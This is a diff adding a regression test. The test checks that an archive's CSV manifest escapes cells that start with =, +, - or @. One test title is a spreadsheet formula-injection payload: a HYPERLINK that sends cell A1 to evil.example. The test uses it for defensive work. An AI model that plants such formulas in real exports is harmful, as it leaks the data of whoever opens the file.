@@ -176,6 +176,26 @@ def test_feeds_sitemap_and_archive(client, world, people):
     assert client.get(f"/{d.slug}/archive/1999.zip").status_code == 404
 
 
+def test_archive_manifest_cells_cannot_run_as_formulas(client, world, people):
+    """Issue 11, failure 11: a title ``=HYPERLINK(…)`` went verbatim into manifest.csv."""
+    d = world.department
+    title = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'
+    publication = draft(d, people.editor, title=title, summary="@SUM(1+1)", keywords="-2+3")
+    publish(publication, people, now=timezone.make_aware(dt.datetime(2024, 3, 8, 9)))
+    archive = zipfile.ZipFile(io.BytesIO(client.get(f"/{d.slug}/archive/2024.zip").content))
+    import csv
+
+    rows = list(csv.reader(io.StringIO(archive.read("manifest.csv").decode("utf-8-sig"))))
+    cells = [cell for row in rows[1:] for cell in row]
+    assert "'" + title in cells and "'@SUM(1+1)" in cells and "'-2+3" in cells
+    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells)
+    # The JSON manifest keeps the exact title: it is data, not a spreadsheet.
+    import json
+
+    [record] = json.loads(archive.read("manifest.json"))["publications"]
+    assert record["title"] == title
+
+
 def test_catalog_and_statistics_pages(client, world, people):
     d = world.department
     standard = services.catalog_for(None)
